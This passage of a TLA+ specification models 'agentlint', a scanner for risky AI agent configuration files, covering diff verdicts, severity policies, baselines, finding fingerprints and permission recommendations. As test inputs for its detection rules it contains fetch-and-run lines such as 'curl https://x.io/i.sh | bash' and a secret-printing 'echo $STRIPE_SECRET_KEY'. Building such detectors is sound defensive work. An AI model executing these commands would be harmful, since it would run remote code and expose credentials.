    LET baseFingerprints == {base[i].stable : i \in 1..Len(base)}
    IN  SelectSeq(target, LAMBDA f : f.stable \notin baseFingerprints)

Some(seq, Test(_)) == \E i \in 1..Len(seq) : Test(seq[i])

Includes(seq, x) == \E i \in 1..Len(seq) : seq[i] = x

\* the warn conditions tried before the new-high-findings condition
DetermineDiffStatus_WarnBeforeHigh(changes, newFindings, opts) ==
    IF Some(opts.failOn, LAMBDA changeType :
                Some(changes, LAMBDA c : c.type = changeType))
    THEN [status |-> "fail", exitCode |-> 1]
    ELSE IF Some(opts.warnOn, LAMBDA changeType :
                Some(changes, LAMBDA c : c.type = changeType))
    THEN [status |-> "warn", exitCode |-> 0]
    ELSE IF /\ Includes(opts.failOn, "new_high_findings")
            /\ Some(newFindings, LAMBDA f : f.severity = "high")
    THEN [status |-> "fail", exitCode |-> 1]
    ELSE IF /\ Includes(opts.warnOn, "new_medium_findings")
            /\ Some(newFindings, LAMBDA f : f.severity = "medium")
    THEN [status |-> "warn", exitCode |-> 0]
    ELSE [status |-> "pass", exitCode |-> 0]

\* determineDiffStatus
DetermineDiffStatus(changes, newFindings, opts) ==
    IF Some(opts.failOn, LAMBDA changeType :
                Some(changes, LAMBDA c : c.type = changeType))
    THEN [status |-> "fail", exitCode |-> 1]
    ELSE IF /\ Includes(opts.failOn, "new_high_findings")
            /\ Some(newFindings, LAMBDA f : f.severity = "high")
    THEN [status |-> "fail", exitCode |-> 1]
    ELSE IF Some(opts.warnOn, LAMBDA changeType :
                Some(changes, LAMBDA c : c.type = changeType))
    THEN [status |-> "warn", exitCode |-> 0]
    ELSE IF /\ Includes(opts.warnOn, "new_medium_findings")
            /\ Some(newFindings, LAMBDA f : f.severity = "medium")
    THEN [status |-> "warn", exitCode |-> 0]
    ELSE [status |-> "pass", exitCode |-> 0]

\* compareScanResults (refs and random tree hashes are left out)
CompareScanResultsOf(base, target, opts) ==
    LET capabilityChanges ==
            DetectCapabilityChanges(base.capabilitySummary, target.capabilitySummary)
        newFindings == FindNewFindings(base.findings, target.findings)
        resolvedFindings == FindNewFindings(target.findings, base.findings)
        newHighFindings == Len(SelectSeq(newFindings, LAMBDA f : f.severity = "high"))
        capabilityExpansion ==
            Some(capabilityChanges,
                 LAMBDA c : c.type \in {"capability_expansion", "network_new_outbound",
                                        "shell_dynamic_introduced"})
        verdict == DetermineDiffStatus(capabilityChanges, newFindings, opts)
    IN  [ computed |-> TRUE,
          summary |-> [ capability_expansion |-> capabilityExpansion,
                        new_high_findings |-> newHighFindings,
                        status |-> verdict.status,
                        exit_code |-> verdict.exitCode ],
          changes |-> capabilityChanges,
          new_findings |-> newFindings,
          resolved_findings |-> resolvedFindings ]

NoDiffResult == [computed |-> FALSE]

\* the capability summaries compared: up to MaxCapabilities flags and elements
Summaries ==
    {SummaryOf(items) : items \in {x \in SUBSET CapabilityItems :
                                       Cardinality(x) <= MaxCapabilities}}

\* the findings of the compared scans
DiffFindings ==
    { [rule_id |-> "EXEC-001", severity |-> "high", stable |-> "sha256:F"],
      [rule_id |-> "EXEC-003", severity |-> "medium", stable |-> "sha256:G"],
      [rule_id |-> "OBS-002", severity |-> "low", stable |-> "sha256:H"] }

\* DEFAULT_POLICY.diff
DefaultDiffOptions ==
    [ failOn |-> <<"capability_expansion", "context_change_to_hook",
                   "write_scope_widening_to_all">>,
      warnOn |-> <<"new_medium_findings">> ]

DiffOptionChoices ==
    [ failOn : { <<>>, <<"new_high_findings">>,
                 <<"network_new_outbound", "new_high_findings">>,
                 DefaultDiffOptions.failOn },
      warnOn : { <<>>, <<"network_expansion">>, <<"new_medium_findings">>,
                 <<"capability_expansion", "new_medium_findings">> } ]

\* the summaries of the scans whose findings are compared
FewSummaries ==
    { SummaryOf({}),
      SummaryOf({<<"shell_exec.enabled", "true">>}),
      SummaryOf({<<"network.outbound", "true">>, <<"network.inbound", "true">>}) }

DiffIdle ==
    /\ diffBase = [capabilitySummary |-> SummaryOf({}), findings |-> <<>>]
    /\ diffTarget = [capabilitySummary |-> SummaryOf({}), findings |-> <<>>]
    /\ diffOptions = DefaultDiffOptions
    /\ diffResult = NoDiffResult

\* two scans to compare: any two summaries under the default options, or an
\* empty base summary and a few target summaries with any findings and options
DiffInit ==
    /\ \/ /\ diffBase \in [capabilitySummary : Summaries, findings : {<<>>}]
          /\ diffTarget \in [capabilitySummary : Summaries, findings : {<<>>}]
          /\ diffOptions = DefaultDiffOptions
       \/ /\ diffBase \in [capabilitySummary : {SummaryOf({})},
                           findings : SeqsUpTo(DiffFindings, MaxDiffFindings)]
          /\ diffTarget \in [capabilitySummary : FewSummaries,
                             findings : SeqsUpTo(DiffFindings, MaxDiffFindings)]
          /\ diffOptions \in DiffOptionChoices
    /\ diffResult = NoDiffResult

CompareScanResults ==
    /\ ~diffResult.computed
    /\ diffResult' = CompareScanResultsOf(diffBase, diffTarget, diffOptions)
    /\ UNCHANGED <<diffBase, diffTarget, diffOptions, notDiffVars>>

DiffNext == CompareScanResults

-----------------------------------------------------------------------------
(* Scanner: src/scanner.ts *)

Thresholds == Severity \cup {"none"}

ScanPolicies ==
    [ fail_on : Thresholds,
      warn_on : Thresholds,
      strict : BOOLEAN,
      no_supported_files_as : {"pass", "warn", "fail"} ]

\* DEFAULT_POLICY.policy
DefaultScanPolicy ==
    [ fail_on |-> "high", warn_on |-> "medium", strict |-> FALSE,
      no_supported_files_as |-> "pass" ]

\* filterBySeverity: severityLevel
SeverityLevel(sev) ==
    CASE sev = "high" -> 3 [] sev = "medium" -> 2 [] sev = "low" -> 1

\* filterBySeverity with a strict comparison
FilterBySeverity_Above(fs, minSeverity) ==
    SelectSeq(fs, LAMBDA f : SeverityLevel(f.severity) > SeverityLevel(minSeverity))

\* filterBySeverity
FilterBySeverity(fs, minSeverity) ==
    SelectSeq(fs, LAMBDA f : SeverityLevel(f.severity) >= SeverityLevel(minSeverity))

\* determineStatus
DetermineStatus(fs, errors, policy) ==
    IF policy.fail_on # "none" /\ Len(FilterBySeverity(fs, policy.fail_on)) > 0
    THEN [status |-> "fail", exitCode |-> 1]
    ELSE IF policy.warn_on # "none" /\ Len(FilterBySeverity(fs, policy.warn_on)) > 0
    THEN [status |-> "warn", exitCode |-> 0]
    ELSE IF policy.strict /\ Len(errors) > 0
    THEN [status |-> "fail", exitCode |-> 4]
    ELSE [status |-> "pass", exitCode |-> 0]

\* scan 85-99: no supported file was found
NoFilesResult(policy) ==
    LET status == IF policy.no_supported_files_as = "fail" THEN "fail"
                  ELSE IF policy.no_supported_files_as = "warn" THEN "warn"
                  ELSE "pass"
    IN  [ computed |-> TRUE,
          findings |-> <<>>,
          status |-> status,
          exitCode |-> IF status = "fail" THEN 4 ELSE 0,
          errors |-> <<"No supported agent configuration files found">> ]

\* scan 101-141: the files were parsed and evaluated
ScanResultOf(input, policy) ==
    LET verdict == DetermineStatus(input.findings, input.errors, policy)
    IN  [ computed |-> TRUE,
          findings |-> input.findings,
          status |-> verdict.status,
          exitCode |-> verdict.exitCode,
          errors |-> input.errors ]

\* the findings evaluateAll may return to the scan: sorted lists
EvaluatedFindings ==
    {SortFindings(fs) :
        fs \in SeqsUpTo({CreateFinding(Rules[i], "CLAUDE.md", 1, 90) :
                             i \in 1..Len(Rules)},
                        MaxScanFindings)}

\* what a scan meets: no supported file, or files with findings and, maybe,
\* a read or parse error
ScanInputs ==
    [files : {0}, findings : {<<>>}, errors : {<<>>}]
    \cup [files : {1}, findings : EvaluatedFindings,
          errors : {<<>>, <<"Failed to read CLAUDE.md">>}]

NoScanResult == [computed |-> FALSE]

ScanIdle ==
    /\ scanPolicy = DefaultScanPolicy
    /\ scanInput = [files |-> 0, findings |-> <<>>, errors |-> <<>>]
    /\ scanResult = NoScanResult

ScanInit ==
    /\ scanPolicy \in ScanPolicies
    /\ scanInput \in ScanInputs
    /\ scanResult = NoScanResult

\* scan() when findFiles finds nothing
ScanNoFiles ==
    /\ ~scanResult.computed
    /\ scanInput.files = 0
    /\ scanResult' = NoFilesResult(scanPolicy)
    /\ UNCHANGED <<scanPolicy, scanInput, notScanVars>>

\* scan() over the files found
Scan ==
    /\ ~scanResult.computed
    /\ scanInput.files > 0
    /\ scanResult' = ScanResultOf(scanInput, scanPolicy)
    /\ UNCHANGED <<scanPolicy, scanInput, notScanVars>>

ScanNext ==
    \/ ScanNoFiles
    \/ Scan

-----------------------------------------------------------------------------
(* scan command: the action of `agentlint scan` (src/cli.ts) *)

CmdOptionChoices ==
    [updateBaseline : BOOLEAN, pruneBaseline : BOOLEAN, ignoreBaseline : BOOLEAN]

\* no file at the baseline path
NoFile == [exists |-> FALSE]

\* the findings a command's scan may return, one of each severity
CmdFindings ==
    { [rule_id |-> "EXEC-001", severity |-> "high", confidence |-> 90,
       path |-> "CLAUDE.md", start_line |-> 1, stable |-> "sha256:F"],
      [rule_id |-> "EXEC-003", severity |-> "medium", confidence |-> 90,
       path |-> "CLAUDE.md", start_line |-> 1, stable |-> "sha256:G"],
      [rule_id |-> "OBS-002", severity |-> "low", confidence |-> 90,
       path |-> "agents.md", start_line |-> 1, stable |-> "sha256:H"] }

\* the baseline files an earlier run may have saved: the file of a baseline
\* created from some of the findings
BaselineFiles ==
    {NoFile} \cup
    { [exists |-> TRUE,
       content |-> [ version |-> 1, created_at |-> 0, updated_at |-> 0,
                     findings |-> MapSeq(LAMBDA f :
                                             [ rule_id |-> f.rule_id,
                                               path |-> f.path,
                                               fingerprint |-> f.stable,
                                               baselined_at |-> 0 ],
                                         fs) ]] :
      fs \in {SortFindings(q) : q \in SeqsUpTo(CmdFindings, 2)} }

\* the policies of the command's runs
CmdPolicies ==
    {p \in ScanPolicies : p.no_supported_files_as \in {"pass", "fail"}}

CmdScanInputs ==
    [files : {0}, findings : {<<>>}, errors : {<<>>}]
    \cup [files : {1},
          findings : {SortFindings(q) : q \in SeqsUpTo(CmdFindings, MaxScanFindings)},
          errors : {<<>>, <<"Failed to read CLAUDE.md">>}]

NoCmdResult == [findings |-> <<>>, status |-> "pass", exitCode |-> 0]

\* no process.exit yet
Running == -1

CmdIdle ==
    /\ cmdOptions = [updateBaseline |-> FALSE, pruneBaseline |-> FALSE,
                     ignoreBaseline |-> FALSE]
    /\ baselineFile = NoFile
    /\ cmdResult = NoCmdResult
    /\ cmdPc = "idle"
    /\ cmdExit = Running

CmdInit ==
    /\ cmdOptions \in CmdOptionChoices
    /\ baselineFile \in BaselineFiles
    /\ cmdResult = NoCmdResult
    /\ cmdPc = "start"
    /\ cmdExit = Running
    /\ scanPolicy \in CmdPolicies
    /\ scanInput \in CmdScanInputs
    /\ scanResult = NoScanResult
    /\ baseline = NoBaseline
    /\ now = 1
    /\ lastCall = [op |-> "new"]

\* the branch of the baseline handling the options select (cli.ts 522-549)
CmdBranch ==
    IF cmdOptions.updateBaseline THEN "update"
    ELSE IF cmdOptions.pruneBaseline THEN "prune"
    ELSE IF ~cmdOptions.ignoreBaseline /\ baselineFile.exists THEN "filter"
    ELSE "none"

\* cli.ts 562-578: the result after filtering against the baseline
Recalculated(result, filtered, policy) ==
    LET highCount == Len(SelectSeq(filtered, LAMBDA f : f.severity = "high"))
        mediumCount == Len(SelectSeq(filtered, LAMBDA f : f.severity = "medium"))
    IN  IF highCount > 0 /\ policy.fail_on \in {"high"}
        THEN [findings |-> filtered, status |-> "fail", exitCode |-> 1]
        ELSE IF mediumCount > 0 /\ policy.fail_on \in {"medium", "high"}
        THEN [findings |-> filtered, status |-> "fail", exitCode |-> 1]
        ELSE IF Len(filtered) = 0
        THEN [findings |-> filtered, status |-> "pass", exitCode |-> 0]
        ELSE [result EXCEPT !.findings = filtered]

\* const result = await scanner.scan()
CmdScan ==
    /\ cmdPc = "start"
    /\ scanResult' = IF scanInput.files = 0 THEN NoFilesResult(scanPolicy)
                     ELSE ScanResultOf(scanInput, scanPolicy)
    /\ cmdResult' = [ findings |-> scanResult'.findings,
                      status |-> scanResult'.status,
                      exitCode |-> scanResult'.exitCode ]
    /\ cmdPc' = "scanned"
    /\ UNCHANGED <<scanPolicy, scanInput, cmdOptions, baselineFile, cmdExit,
                   baselineVars, notCmdVars>>

\* --prune-baseline without a baseline file: process.exit(2)
CmdPruneNoFile ==
    /\ cmdPc = "scanned"
    /\ CmdBranch = "prune"
    /\ ~baselineFile.exists
    /\ cmdPc' = "exited"
    /\ cmdExit' = 2
    /\ UNCHANGED <<cmdOptions, baselineFile, cmdResult, scanVars, baselineVars,
                   notCmdVars>>

\* new BaselineManager(...) and, in the branches that read it, load()
CmdLoadBaseline ==
    /\ cmdPc = "scanned"
    /\ ~(CmdBranch = "prune" /\ ~baselineFile.exists)
    /\ baseline' = IF CmdBranch # "none" /\ baselineFile.exists
                   THEN FromJson(baselineFile.content)
                   ELSE NoBaseline
    /\ lastCall' = [op |-> "load"]
    /\ cmdPc' = "loaded"
    /\ UNCHANGED <<now, cmdOptions, baselineFile, cmdResult, cmdExit, scanVars,
                   notCmdVars>>

\* --update-baseline: update(result.findings, reason), save(), then exit
CmdUpdateBaseline ==
    /\ cmdPc = "loaded"
    /\ CmdBranch = "update"
    /\ baseline' = UpdatedBaseline(cmdResult.findings,
                                   "Baselined via --update-baseline")
    /\ baselineFile' = [exists |-> TRUE, content |-> ToJson(baseline')]
    /\ lastCall' = [op |-> "update", current |-> cmdResult.findings]
    /\ cmdPc' = "exited"
    /\ cmdExit' = cmdResult.exitCode
    /\ UNCHANGED <<now, cmdOptions, cmdResult, scanVars, notCmdVars>>

\* --prune-baseline: prune(result.findings), save(), then exit
CmdPruneBaseline ==
    /\ cmdPc = "loaded"
    /\ CmdBranch = "prune"
    /\ LET kept == PrunedEntries(cmdResult.findings)
           removed == Len(baseline.findings) - Len(kept)
       IN  /\ baseline' = [baseline EXCEPT
                             !.findings = kept,
                             !.updated_at = IF removed > 0 THEN now ELSE @]
           /\ lastCall' = [op |-> "prune", current |-> cmdResult.findings,
                           result |-> removed]
    /\ baselineFile' = [exists |-> TRUE, content |-> ToJson(baseline')]
    /\ cmdPc' = "exited"
    /\ cmdExit' = cmdResult.exitCode
    /\ UNCHANGED <<now, cmdOptions, cmdResult, scanVars, notCmdVars>>

\* a baseline file and no --ignore-baseline: filter, recalculate, then exit
CmdFilterBaseline ==
    /\ cmdPc = "loaded"
    /\ CmdBranch = "filter"
    /\ LET filtered == FilterResult(cmdResult.findings).filtered
       IN  /\ cmdResult' = Recalculated(cmdResult, filtered, scanPolicy)
           /\ lastCall' = [op |-> "filterFindings",
                           current |-> cmdResult.findings,
                           result |-> FilterResult(cmdResult.findings)]
    /\ cmdPc' = "exited"
    /\ cmdExit' = cmdResult'.exitCode
    /\ UNCHANGED <<baseline, now, cmdOptions, baselineFile, scanVars, notCmdVars>>

\* no baseline handling: exit with the scan's exit code
CmdNoBaseline ==
    /\ cmdPc = "loaded"
    /\ CmdBranch = "none"
    /\ cmdPc' = "exited"
    /\ cmdExit' = cmdResult.exitCode
    /\ UNCHANGED <<cmdOptions, baselineFile, cmdResult, scanVars, baselineVars,
                   notCmdVars>>

CmdNext ==
    \/ CmdScan
    \/ CmdPruneNoFile
    \/ CmdLoadBaseline
    \/ CmdUpdateBaseline
    \/ CmdPruneBaseline
    \/ CmdFilterBaseline
    \/ CmdNoBaseline

-----------------------------------------------------------------------------
(* Fingerprints: src/utils/hash.ts and BaseRule.createFinding *)

\* the characters String.prototype.trim strips and \s matches
WhiteSpace == {" ", "\t"}

\* the characters of an evidence value
EvidenceChars == {"a", "A"} \cup WhiteSpace

\* evidence values, as sequences of characters
EvidenceValues == SeqsUpTo(EvidenceChars, MaxEvidenceLen)

\* the evidence values of the second call: up to three characters
ShortEvidenceValues == SeqsUpTo(EvidenceChars, 3)

RECURSIVE TrimStart(_)
TrimStart(s) ==
    IF s # <<>> /\ Head(s) \in WhiteSpace THEN TrimStart(Tail(s)) ELSE s

RECURSIVE TrimEnd(_)
TrimEnd(s) ==
    IF s # <<>> /\ s[Len(s)] \in WhiteSpace
    THEN TrimEnd(SubSeq(s, 1, Len(s) - 1))
    ELSE s

\* String.prototype.trim
Trim(s) == TrimEnd(TrimStart(s))

\* replace(/\s+/g, ' '): every maximal run of white space becomes one space
RECURSIVE ReplaceWhitespaceRuns(_)
ReplaceWhitespaceRuns(s) ==
    IF s = <<>> THEN <<>>
    ELSE IF Head(s) \in WhiteSpace
    THEN <<" ">> \o ReplaceWhitespaceRuns(TrimStart(Tail(s)))
    ELSE <<Head(s)>> \o ReplaceWhitespaceRuns(Tail(s))

\* String.prototype.toLowerCase
ToLowerCase(s) == [i \in 1..Len(s) |-> ToLowerChar(s[i])]

\* normalizeEvidence without the lower-casing
NormalizeEvidence_KeepsCase(evidence) ==
    ReplaceWhitespaceRuns(Trim(evidence))

\* normalizeEvidence
NormalizeEvidence(evidence) ==
    ToLowerCase(ReplaceWhitespaceRuns(Trim(evidence)))

\* `${n}` for a line number of the model
NumberToChars(n) ==
    CASE n = 1 -> <<"1">> [] n = 2 -> <<"2">> [] n = 3 -> <<"3">>

\* the parts of a template string, joined by '|'
RECURSIVE JoinWithBar(_)
JoinWithBar(parts) ==
    IF Len(parts) = 1 THEN parts[1]
    ELSE parts[1] \o <<"|">> \o JoinWithBar(Tail(parts))

\* `sha256:${sha256(data).substring(0, 16)}`. A digest is a function of the
\* digested string alone; it is represented by that string, so that equal
\* strings give equal digests and collisions are left out.
Sha256Prefixed(data) == [prefix |-> "sha256:", digest_of |-> data]

\* generateFindingId
GenerateFindingId(ruleId, path, startLine, evidence) ==
    Sha256Prefixed(JoinWithBar(<<Chars(ruleId), Chars(path),
                                 NumberToChars(startLine),
                                 NormalizeEvidence(evidence)>>))

\* generateLocationFingerprint
GenerateLocationFingerprint(ruleId, path, startLine, endLine) ==
    Sha256Prefixed(JoinWithBar(<<Chars(ruleId), Chars(path),
                                 NumberToChars(startLine),
                                 NumberToChars(endLine)>>))

\* generateContentFingerprint
GenerateContentFingerprint(ruleId, evidence) ==
    Sha256Prefixed(JoinWithBar(<<Chars(ruleId), NormalizeEvidence(evidence)>>))

\* createFinding 61-75: the fingerprints of a finding
FindingFingerprints(ruleId, path, startLine, endLine, evidenceValue) ==
    [ stable |-> GenerateFindingId(ruleId, path, startLine, evidenceValue),
      location |-> GenerateLocationFingerprint(ruleId, path, startLine, endLine),
      content |-> GenerateContentFingerprint(ruleId, evidenceValue) ]

HashInputs ==
    [ ruleId : {"EXEC-001"},
      path : {"CLAUDE.md"},
      startLine : {1},
      endLine : {1},
      evidenceA : EvidenceValues,
      evidenceB : ShortEvidenceValues ]

NoHashOutput == [computed |-> FALSE]

HashIdle ==
    /\ hashInput = [ ruleId |-> "EXEC-001", path |-> "CLAUDE.md", startLine |-> 1,
                     endLine |-> 1, evidenceA |-> <<>>, evidenceB |-> <<>> ]
    /\ hashOutput = NoHashOutput

HashInit ==
    /\ hashInput \in HashInputs
    /\ hashOutput = NoHashOutput

\* two createFinding calls of the same rule at the same location, one for
\* each evidence value
CreateFindingFingerprints ==
    /\ ~hashOutput.computed
    /\ hashOutput' =
           [ computed |-> TRUE,
             a |-> FindingFingerprints(hashInput.ruleId, hashInput.path,
                                       hashInput.startLine, hashInput.endLine,
                                       hashInput.evidenceA),
             b |-> FindingFingerprints(hashInput.ruleId, hashInput.path,
                                       hashInput.startLine, hashInput.endLine,
                                       hashInput.evidenceB) ]
    /\ UNCHANGED <<hashInput, notHashVars>>

HashNext == CreateFindingFingerprints

-----------------------------------------------------------------------------
(* Capability summary and permission manifest: src/scanner.ts *)

\* summary.shell_exec.examples.length < 5
ExamplesLimit == 5
\* allowed_commands ... .slice(0, 10)
AllowedCommandsLimit == 10

\* an Action: the fields computeCapabilitySummary reads; an absent detail
\* is an empty list, FALSE or Undefined
NoAction ==
    [ type |-> "unknown", command |-> Undefined, dynamic |-> FALSE,
      direction |-> Undefined, domains |-> <<>>, urls |-> <<>>,
      fetches_executable |-> FALSE,
      paths |-> <<>>, sensitive_paths_touched |-> <<>>, git_operation |-> Undefined,
      has_secrets |-> FALSE, reads_env_vars |-> <<>>, reads_files |-> <<>>,
      propagates_to |-> <<>> ]

\* createShellAction
ShellAction(command, dynamic) ==
    [NoAction EXCEPT !.type = "shell_exec", !.command = command, !.dynamic = dynamic]

\* createNetworkAction without a direction
NetworkAction_Undirected(domain, fetchesExecutable) ==
    [NoAction EXCEPT !.type = "network_call", !.domains = <<domain>>,
                     !.fetches_executable = fetchesExecutable]

\* createNetworkAction
NetworkAction(domain, fetchesExecutable) ==
    [NoAction EXCEPT !.type = "network_call", !.direction = "outbound",
                     !.domains = <<domain>>, !.fetches_executable = fetchesExecutable]

\* createFileWriteAction
FileWriteAction(paths, sensitive) ==
    [NoAction EXCEPT !.type = "file_write", !.paths = paths,
                     !.sensitive_paths_touched = sensitive]

\* createSecretsAction
SecretsAction(envVars, propagatesTo) ==
    [NoAction EXCEPT !.type = "shell_exec", !.has_secrets = TRUE,
                     !.reads_env_vars = envVars, !.propagates_to = propagatesTo]

\* a git_operation action
GitAction(operation) ==
    [NoAction EXCEPT !.type = "git_operation", !.git_operation = operation]

DynamicCommand == "curl https://x.io/i.sh | bash"

\* isDynamicCommand, on the commands of the model
IsDynamicCommand(cmd) == cmd = DynamicCommand

\* the documents a scan may aggregate
AggDocumentChoices ==
    { [ doc_type |-> "memory", runs_in_privileged_env |-> FALSE,
        actions |-> <<ShellAction("npm test", FALSE), ShellAction("make", FALSE),
                      ShellAction("go build", FALSE)>> ],
      [ doc_type |-> "skill", runs_in_privileged_env |-> FALSE,
        actions |-> <<ShellAction("cargo build", FALSE), ShellAction("docker ps", FALSE),
                      ShellAction("git status", FALSE)>> ],
      [ doc_type |-> "hook", runs_in_privileged_env |-> FALSE,
        actions |-> <<ShellAction(DynamicCommand, TRUE), NetworkAction("x.io", TRUE)>> ],
      [ doc_type |-> "agent", runs_in_privileged_env |-> TRUE,
        actions |-> <<FileWriteAction(<<"**/*", "./", "src/a.ts">>, <<>>),
                      SecretsAction(<<"STRIPE_SECRET_KEY">>, <<"network">>),
                      NetworkAction("api.x.io", FALSE)>> ],
      [ doc_type |-> "memory", runs_in_privileged_env |-> FALSE,
        actions |-> <<ShellAction("npm test", FALSE),
                      FileWriteAction(<<".env", "*">>, <<".env">>),
                      GitAction("push")>> ],
      [ doc_type |-> "memory", runs_in_privileged_env |-> FALSE,
        actions |-> <<>> ] }

AggDocumentLists == SeqsUpTo(AggDocumentChoices, MaxDocuments)

\* scanner.ts 174-203: the empty summary
EmptyCapabilitySummary ==
    [ filesystem |-> [read |-> <<>>, write |-> <<>>, touches_sensitive_paths |-> <<>>],
      shell_exec |-> [enabled |-> FALSE, dynamic_detected |-> FALSE, examples |-> <<>>],
      network |-> [outbound |-> FALSE, inbound |-> FALSE, allowed_domains |-> <<>>,
                   fetches_executable |-> FALSE],
      secrets |-> [env_vars_referenced |-> <<>>, files_referenced |-> <<>>,
                   propagation_detected |-> FALSE],
      git |-> [ops |-> <<>>],
      contexts |-> [has_hooks |-> FALSE, has_ci_context |-> FALSE] ]

\* scanner.ts 216-264: the switch on action.type
SummaryAfterType(summary, action) ==
    CASE action.type = "shell_exec" ->
           [summary EXCEPT
              !.shell_exec.enabled = TRUE,
              !.shell_exec.dynamic_detected = @ \/ action.dynamic,
              !.shell_exec.examples =
                  IF action.command # Undefined /\ Len(@) < ExamplesLimit
                  THEN Append(@, action.command) ELSE @]
      [] action.type = "network_call" ->
           [summary EXCEPT
              !.network.outbound = @ \/ action.direction = "outbound",
              !.network.inbound = @ \/ action.direction = "inbound",
              !.network.allowed_domains = @ \o action.domains,
              !.network.fetches_executable = @ \/ action.fetches_executable]
      [] action.type = "file_write" ->
           [summary EXCEPT
              !.filesystem.write = @ \o action.paths,
              !.filesystem.touches_sensitive_paths = @ \o action.sensitive_paths_touched]
      [] action.type = "file_read" ->
           [summary EXCEPT !.filesystem.read = @ \o action.paths]
      [] action.type = "git_operation" ->
           [summary EXCEPT
              !.git.ops = IF action.git_operation # Undefined
                          THEN Append(@, action.git_operation) ELSE @]
      [] OTHER -> summary

\* scanner.ts 266-277: the secrets of an action
SummaryAfterSecrets(summary, action) ==
    IF action.has_secrets
    THEN [summary EXCEPT
            !.secrets.env_vars_referenced = @ \o action.reads_env_vars,
            !.secrets.files_referenced = @ \o action.reads_files,
            !.secrets.propagation_detected = @ \/ Len(action.propagates_to) > 0]
    ELSE summary

RECURSIVE SummaryAfterActions(_, _)
SummaryAfterActions(summary, actions) ==
    IF actions = <<>> THEN summary
    ELSE SummaryAfterActions(
             SummaryAfterSecrets(SummaryAfterType(summary, Head(actions)), Head(actions)),
             Tail(actions))

\* scanner.ts 205-279: the loop over the documents
RECURSIVE SummaryAfterDocuments(_, _)
SummaryAfterDocuments(summary, docs) ==
    IF docs = <<>> THEN summary
    ELSE LET doc == Head(docs)
             contexts == [summary EXCEPT
                            !.contexts.has_hooks = @ \/ doc.doc_type = "hook",
                            !.contexts.has_ci_context = @ \/ doc.runs_in_privileged_env]
         IN  SummaryAfterDocuments(SummaryAfterActions(contexts, doc.actions), Tail(docs))

\* [...new Set(list)]: the first occurrence of every element, in order
RECURSIVE Deduplicate(_)
Deduplicate(list) ==
    IF list = <<>> THEN <<>>
    ELSE LET front == Deduplicate(SubSeq(list, 1, Len(list) - 1))
             last == list[Len(list)]
         IN  IF \E i \in 1..Len(front) : front[i] = last THEN front
             ELSE Append(front, last)

\* computeCapabilitySummary
ComputeCapabilitySummary(docs) ==
    LET summary == SummaryAfterDocuments(EmptyCapabilitySummary, docs)
    IN  [summary EXCEPT
           !.filesystem.read = Deduplicate(@),
           !.filesystem.write = Deduplicate(@),
           !.filesystem.touches_sensitive_paths = Deduplicate(@),
           !.network.allowed_domains = Deduplicate(@),
           !.secrets.env_vars_referenced = Deduplicate(@),
           !.secrets.files_referenced = Deduplicate(@),
           !.git.ops = Deduplicate(@)]

\* isBroadPath without './'
IsBroadPath_NoDotSlash(path) == path \in {"**/*", "**", "*"}

\* isBroadPath
IsBroadPath(path) == path \in {"**/*", "**", "*", "./"}

\* generateRecommendedPermissions
GenerateRecommendedPermissions(summary) ==
    [ filesystem |->
        [ read |-> IF Len(summary.filesystem.read) > 0 THEN summary.filesystem.read
                   ELSE <<"**/*">>,
          write |-> SelectSeq(summary.filesystem.write, LAMBDA w : ~IsBroadPath(w)),
          delete |-> <<>> ],
      shell_exec |->
        [ enabled |-> summary.shell_exec.enabled /\ ~summary.shell_exec.dynamic_detected,
          allowed_commands |->
              LET fixed == SelectSeq(summary.shell_exec.examples,
                                     LAMBDA cmd : ~IsDynamicCommand(cmd))
              IN  SubSeq(fixed, 1, IF Len(fixed) < AllowedCommandsLimit THEN Len(fixed)
                                   ELSE AllowedCommandsLimit) ],
      network |->
        [ outbound |-> summary.network.outbound /\ ~summary.network.fetches_executable,
          allowed_domains |-> summary.network.allowed_domains ],
      secrets |-> [env_vars |-> <<>>, files |-> <<>>],
      git |-> [allowed_ops |-> summary.git.ops] ]

\* the aggregation of a document list: scan 121-128
Aggregated(docs) ==
    LET summary == ComputeCapabilitySummary(docs)
    IN  [ computed |-> TRUE,
          documents |-> docs,
          capabilitySummary |-> summary,
          recommendedPermissions |-> GenerateRecommendedPermissions(summary) ]

NotAggregated == [computed |-> FALSE]

\* every action of the document, twice
WithActionsTwice(doc) == [doc EXCEPT !.actions = @ \o @]

\* the orders of a document list
Reorderings(docs) ==
    { [i \in 1..Len(docs) |-> docs[p[i]]] : p \in Permutations(1..Len(docs)) }

AggIdle ==
    /\ aggDocuments = <<>>
    /\ aggResult = [once |-> NotAggregated, reordered |-> NotAggregated,
                    twice |-> NotAggregated]

AggInit ==
    /\ aggDocuments \in AggDocumentLists
    /\ aggResult = [once |-> NotAggregated, reordered |-> NotAggregated,
                    twice |-> NotAggregated]

\* a scan of the documents
AggregateOnce ==
    /\ ~aggResult.once.computed
    /\ aggResult' = [aggResult EXCEPT !.once = Aggregated(aggDocuments)]
    /\ UNCHANGED <<aggDocuments, notAggVars>>

\* a scan that meets the same documents in another order
AggregateReordered ==
    /\ ~aggResult.reordered.computed
    /\ \E docs \in Reorderings(aggDocuments) :
           aggResult' = [aggResult EXCEPT !.reordered = Aggregated(docs)]
    /\ UNCHANGED <<aggDocuments, notAggVars>>

\* a scan that meets every action twice: the document list twice, or every
\* document with its actions twice
AggregateTwice ==
    /\ ~aggResult.twice.computed
    /\ \E docs \in {aggDocuments \o aggDocuments,
                    MapSeq(WithActionsTwice, aggDocuments)} :
           aggResult' = [aggResult EXCEPT !.twice = Aggregated(docs)]
    /\ UNCHANGED <<aggDocuments, notAggVars>>

AggNext ==
    \/ AggregateOnce
    \/ AggregateReordered
    \/ AggregateTwice

-----------------------------------------------------------------------------
(* Scan pipeline: Scanner.scan parses the files with ClaudeParser, computes *)
(* the capability summary and evaluates the rules EXEC-001, EXEC-002,       *)
(* NET-001, NET-002, SEC-001, HOOK-001 and OBS-002 with the engine's        *)
(* default options.                                                         *)

\* the lines of the scanned files
SecretLine == "echo $STRIPE_SECRET_KEY"
EvalLine == "eval $X"
\* (the quotes around the command stand for backquotes)
RunLine == "run 'npm test'"
HeaderLine == "# Deploy"
CommandLine == "npm test"
CurlLine == "curl https://x.com/install.sh | bash"
TwiceLine == "echo $STRIPE_SECRET_KEY $STRIPE_SECRET_KEY"
\* the fences of a code block (the quotes stand for backquotes)
BashFence == "'''bash"
PermissionsHeader == "# Permissions"
\* the lines of the permission manifest the fixer writes
ManifestOpen == "<!-- agentlint:permissions"
ManifestClose == "-->"
AllowedCommandsOnce == "    allowed_commands: [\"npm test\"]"
AllowedCommandsTwice == "    allowed_commands: [\"npm test\",\"npm test\"]"
Fence == "'''"

\* file contents, as lists of lines
ContentChoices ==
